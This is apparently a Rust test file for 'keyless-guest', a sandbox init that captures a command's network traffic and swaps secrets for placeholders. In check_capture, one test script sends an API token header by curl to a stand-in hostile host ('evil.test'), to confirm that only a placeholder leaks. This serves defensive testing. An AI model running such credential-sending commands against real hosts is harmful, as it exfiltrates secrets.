//! `keyless-guest`: its size, its three ways to take connections, and what an init owes its command.
//! Here in namespaces of this machine; a whole machine is in [`vm`].

/// The static binary.
pub(crate) mod binary;
/// A virtual machine that it is the init of.
mod vm;

use std::{fs, io::Write as _, net::TcpListener, process::Command, thread};

use keyless_testkit::TestCa;

use crate::{
    invocation::{Invocation, Seen},
    node::Node,
    world::{ALLOWED, EVIL, World},
};

/// 4 MiB: it is copied into every image.
const MOST_BYTES: u64 = 4 << 20;

/// The guest's side of a world: namespaces with nothing in them but loopback.
fn guest<'w>(world: &'w World, options: &[&str], script: &str) -> Invocation<'w> {
    guest_below(world, &[], options, script)
}

/// The same, started by `parent`, which is given the command.
fn guest_below<'w>(
    world: &'w World,
    parent: &[&str],
    options: &[&str],
    script: &str,
) -> Invocation<'w> {
    let resolv_conf = world.home.write("tmp/resolv.conf", "").unwrap();
    // Nothing of this machine is written to: its resolver's file and `/run` are covered first.
    let setup = "mount -t tmpfs tmpfs /run
        mount --bind \"$RESOLV_CONF\" \"$(readlink -m /etc/resolv.conf)\"
        ulimit -Sn 1024
        exec \"$@\"";
    let keyless_guest = binary::path().display().to_string();
    let environment = world.home.root().join("tmp/environment").display().to_string();
    let resolv_conf = resolv_conf.display().to_string();
    let mut command = parent.to_vec();
    command.extend(["unshare", "--map-root-user", "--user", "--mount", "--net"]);
    command.extend(["sh", "-ec", setup, "sh", &keyless_guest, "--environment", &environment]);
    command.extend(["--resolv-conf", &resolv_conf]);
    command.extend(options);
    command.extend(["--", "sh", "-c", script]);
    world.keyless(&[]).without_passphrase().instead(&command).env("RESOLV_CONF", &resolv_conf)
}

fn way_out(guest: &crate::node::Forwarder<'_>) -> String {
    format!("unix:{}", guest.socket.display())
}

/// A server on a port that no list has, in cleartext: it says where it was thought to be.
fn odd_server(world: &mut World) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    world.route("odd.test:5433", &listener.local_addr().unwrap().to_string());
    thread::spawn(move || {
        for stream in listener.incoming() {
            let _ = stream.unwrap().write_all(b"odd server\n");
        }
    });
}

#[test]
fn the_binary_is_small_and_needs_nothing() {
    let path = binary::path();
    let size = fs::metadata(&path).unwrap().len();
    assert!(size <= MOST_BYTES, "{size} bytes");
    let bytes = fs::read(&path).unwrap();
    // PT_INTERP: a program header that names a loader.
    let headers = usize::try_from(u64::from_le_bytes(bytes[32..40].try_into().unwrap())).unwrap();
    let count = usize::from(u16::from_le_bytes([bytes[56], bytes[57]]));
    let kinds = (0..count).map(|number| bytes[headers + number * 56]);
    assert!(!kinds.into_iter().any(|kind| kind == 3), "it is linked dynamically");
    let help = Command::new(&path).arg("--help").output().unwrap();
    assert!(String::from_utf8_lossy(&help.stdout).contains("--way-out"));
}

/// One key of a terminal is one signal, though it goes to all in the foreground.
#[test]
fn a_terminal_interrupts_once_and_files_are_many() {
    let world = World::empty();
    let node = Node::start(&world);
    let forwarder = node.forwarder("thread-7");
    let script = "echo $(ulimit -Sn) $(grep 'open files' /proc/$PPID/limits); exec python3 -c '
import signal, time
came = []
signal.signal(signal.SIGINT, lambda *_: came.append(1))
print(\"ready\", flush=True)
while not came:
    time.sleep(0.01)
time.sleep(1)
print(\"interrupted\", len(came), flush=True)'";
    let driver = "
import os, pty, sys
pid, terminal = pty.fork()
if not pid:
    os.execvp(sys.argv[1], sys.argv[1:])
seen = b''
while b'ready' not in seen:
    seen += os.read(terminal, 9999)
os.write(terminal, b'\\x03')
try:
    while more := os.read(terminal, 9999):
        seen += more
except OSError:
    pass
sys.stdout.buffer.write(seen)
";
    let options = ["--way-out", &way_out(&forwarder), "--capture", "ports"];
    let seen = guest_below(&world, &["python3", "-c", driver], &options, script).run();
    let words = seen.ok();
    assert!(words.contains("interrupted 1"), "{words}{}", seen.errors());
    // The command's own bound is the usual one.
    let limits: Vec<&str> = words
        .lines()
        .find(|line| line.contains("Max open files"))
        .unwrap()
        .split_whitespace()
        .collect();
    assert!(limits[0] == "1024" && limits[4] == limits[5], "{words}");
}

/// The same guest three times; the ways differ in what they reach, and not in how.
fn check_capture(capture: &str, any_port: bool) {
    let mut world = World::empty();
    let (origin, evil) = (world.origin(ALLOWED), world.origin(EVIL));
    odd_server(&mut world);
    let node = Node::start(&world);
    let forwarder = node.forwarder("thread-7");
    let placeholder = node.placeholder("thread-7");
    let variables = world.home.write("tmp/placeholders", format!("API_TOKEN={placeholder}\n"));
    let variables = variables.unwrap().display().to_string();
    let script = format!(
        r#"
        curl -sS --cacert {ca} -H "X-Key: $API_TOKEN" https://{ALLOWED}/ -o /dev/null -w '%{{http_code}}\n'
        curl -sS -k -H "X-Key: $API_TOKEN" https://{EVIL}/ -o /dev/null -w '%{{http_code}}\n'
        python3 - <<'END'
import socket
for host in 'odd.test', '192.0.2.7':
    try:
        with socket.create_connection((host, 5433), 20) as server:
            print(host, server.makefile().readline().strip() or 'closed')
    except OSError as error:
        print(host, type(error).__name__)
for family, host in (socket.AF_INET, 'evil.test'), (socket.AF_INET, '192.0.2.1'):
    with socket.socket(family, socket.SOCK_DGRAM) as quic:
        quic.settimeout(20)
        try:
            quic.connect((host, 443)); quic.send(b'QUIC'); quic.recv(9)
        except OSError as error:
            print('udp', type(error).__name__)
server = socket.create_server(('127.0.0.1', 0))
print(socket.create_connection(server.getsockname()) and 'its own servers work')
END
        "#,
        ca = node.ca().display(),
    );
    let options = ["--way-out", &way_out(&forwarder), "--capture", capture];
    let options = [&options[..], &["--placeholders", &variables]].concat();
    let seen = guest(&world, &options, &script).run();
    let (named, raw) = if any_port {
        ("odd server", "closed")
    } else {
        ("ConnectionRefusedError", "ConnectionRefusedError")
    };
    let expected = [
        "200",
        "200",
        &format!("odd.test {named}"),
        &format!("192.0.2.7 {raw}"),
        "udp ConnectionRefusedError",
        "udp ConnectionRefusedError",
        "its own servers work",
    ];
    assert_eq!(seen.ok().lines().collect::<Vec<_>>(), expected, "{}", seen.errors());
    let says = if any_port { "every port of every name" } else { "the ports 80 443" };
    assert!(seen.errors().contains(says), "{}", seen.errors());
    assert_eq!(origin.requests()[0].header("x-key"), Some(world.canary.value().to_owned()));
    assert_eq!(evil.requests()[0].header("x-key"), Some(placeholder));
}

#[test]
fn with_nf_tables_every_port_of_every_name_is_reached() {
    check_capture("redirect", true);
}

#[test]
fn with_a_tun_device_every_port_of_every_name_is_reached() {
    check_capture("tun", true);
}

#[test]
fn without_both_a_list_of_ports_is() {
    check_capture("ports", false);
}

#[test]
fn many_bytes_pass_a_tun_device_unchanged() {
    let mut world = World::empty();
    let origin = world.origin_with(ALLOWED, |options| options.keep(32 << 20));
    let node = Node::start(&world);
    let forwarder = node.forwarder("thread-7");
    let script = format!(
        "head -c 20000000 /dev/urandom > \"$TMPDIR/sent\"
         curl -sS --cacert {} --data-binary @\"$TMPDIR/sent\" https://{ALLOWED}/ -o \"$TMPDIR/got\"
         sha256sum < \"$TMPDIR/sent\"",
        node.ca().display()
    );
    let seen = guest(&world, &["--way-out", &way_out(&forwarder), "--capture", "tun"], &script)
        .env("TMPDIR", world.home.root().join("tmp"))
        .run();
    let sent = fs::read(world.home.root().join("tmp/sent")).unwrap();
    seen.exits(0);
    assert!(origin.requests()[0].body == sent, "{}", seen.errors());
}

fn ended(options: &[&str], script: &str) -> Seen {
    let world = World::empty();
    let nowhere = ["--way-out", "unix:/nowhere", "--capture", "ports", "--ports", "80"];
    guest(&world, &[&nowhere[..], options].concat(), script).run()
}

#[test]
fn its_end_is_the_commands() {
    ended(&[], "exit 0").exits(0);
    ended(&[], "exit 7").exits(7);
    ended(&[], "kill -TERM $$").exits(128 + 15);
    let seen = ended(&["--ports", "80,x"], "true");
    assert!(seen.exits(1).errors().contains("ports: x is no port"), "{}", seen.errors());
}

#[test]
fn signals_reach_the_command() {
    let world = World::empty();
    let script = "trap 'echo got it; exit 5' TERM; echo ready; while :; do sleep 0.05; done";
    let nowhere = ["--way-out", "unix:/nowhere", "--capture", "ports", "--ports", "80"];
    let mut running = guest(&world, &nowhere, script).start();
    assert_eq!(running.line(), "ready");
    running.signal(rustix::process::Signal::TERM);
    assert_eq!(running.line(), "got it");
    assert_eq!(running.wait().code(), Some(5));
}

#[test]
fn a_connection_to_nowhere_ends_at_once() {
    let seen = ended(&[], "curl -sS http://api.test/ || echo $?");
    // 52: the server closed without an answer; 56: while one was waited for.
    assert!(["52\n", "56\n"].contains(&&*seen.ok()), "{}", seen.text());
}

/// Under another init it starts again, whatever way an earlier one took and however that ended; and the resolver's file is
/// its own only while it answers.
#[test]
fn it_starts_again_where_another_has_been() {
    let world = World::empty();
    let setup = "mount -t tmpfs tmpfs /run; echo 'nameserver 192.0.2.53' > /run/resolv.conf
        mount --bind /run/resolv.conf \"$(readlink -m /etc/resolv.conf)\"
        start() { how=$1; shift; \"$0\" --ports 80 --resolv-conf /run/resolv.conf --way-out unix:/nowhere \
            --environment /run/environment --capture $how \"$@\" 2>> /run/errors; }
        look() { start $1 -- sh -c 'grep -c 127.0.0.1 /run/resolv.conf; curl -s http://api.test/; echo $?'; }
        for how in redirect tun ports redirect ports tun; do look $how; cat /run/resolv.conf; done
        start auto --ca /nowhere.pem || cat /run/resolv.conf
        start auto -- sh -c '\"$@\"' sh \"$0\" --resolv-conf none --way-out unix:/nowhere -- true || echo refused
        look tun; cat /run/resolv.conf
        for how in redirect tun ports; do
            start $how -- sh -c 'kill -9 $PPID' || look tun
            start $how -- sh -c 'kill -9 $PPID' || look redirect
        done
        cat /run/errors >&2";
    let keyless_guest = binary::path().display().to_string();
    let mut command = ["unshare", "--map-root-user", "--user", "--mount", "--net"].to_vec();
    command.extend(["sh", "-c", setup, &keyless_guest]);
    let seen = world.keyless(&[]).without_passphrase().instead(&command).run();
    // 52: whoever took the connection closed it without an answer.
    let (looked, before) = ("1\n52\n", "nameserver 192.0.2.53\n");
    let looks = [looked, before].concat();
    let refused = [before, "refused\n"].concat();
    let expected = [looks.repeat(6), refused, looks, looked.repeat(6)].concat();
    assert_eq!(seen.ok().replace("56\n", "52\n"), expected, "{}", seen.errors());
}

/// A guest's programs trust the authority of the last start and no earlier one, beside what the image trusts.
#[test]
fn a_second_start_trusts_its_own_certificate_alone() {
    let world = World::empty();
    let (first, last) = (TestCa::new(), TestCa::new());
    let files = [("operator/first.pem", &first), ("operator/last.pem", &last)];
    let [first, last] = files.map(|(name, ca)| world.home.write(name, ca.pem()).unwrap());
    let keyless_guest = binary::path().display().to_string();
    let setup = "mount -t tmpfs tmpfs /run; mount -t tmpfs tmpfs /etc/ssl/certs
        cd /etc/ssl/certs; echo of the image > ca-certificates.crt
        start() { unshare --net \"$0\" --capture ports --ports 80 --resolv-conf none --way-out unix:/nowhere \
            --environment /run/environment --ca \"$@\"; }
        start \"$1\" -- true; start \"$1\" -- true; start \"$2\" -- cat ca-certificates.crt";
    let mut command =
        ["unshare", "--map-root-user", "--user", "--mount", "sh", "-ec", setup].to_vec();
    command.extend([&*keyless_guest, first.to_str().unwrap(), last.to_str().unwrap()]);
    let seen = world.keyless(&[]).without_passphrase().instead(&command).run();
    let expected = format!("of the image\n{}", fs::read_to_string(&last).unwrap());
    assert_eq!(seen.ok(), expected, "{}", seen.errors());
}

/// As process 1 of its namespace: what an agent leaves behind is collected, and the end is a reboot,
/// which a kernel tells a namespace's parent as SIGHUP.
#[test]
fn the_first_process_collects_orphans_and_ends_the_machine() {
    let world = World::empty();
    let keyless_guest = binary::path().display().to_string();
    let script = "for i in 1 2 3 4 5; do (sh -c 'sleep 0.1 & exec true' &) ; done
        sleep 1
        grep -l '^State:.Z' /proc/[0-9]*/status | wc -l";
    let isolated = ["unshare", "--map-root-user", "--user", "--mount", "--net", "--pid", "--fork"];
    let mut command = [&isolated[..], &["--mount-proc", "sh", "-ec"]].concat();
    let setup = "mount -t tmpfs tmpfs /run; mkdir /run/keyless; exec \"$@\"";
    command.extend([setup, "sh", &keyless_guest, "--capture", "ports", "--ports", "80"]);
    command.extend(["--resolv-conf", "none", "--way-out", "unix:/nowhere", "--"]);
    command.extend(["sh", "-c", script]);
    let seen = world.keyless(&[]).without_passphrase().instead(&command).run();
    assert_eq!(seen.text(), "0\n", "{}", seen.errors());
    assert!(seen.errors().contains("the command has ended with status 0"), "{}", seen.errors());
}
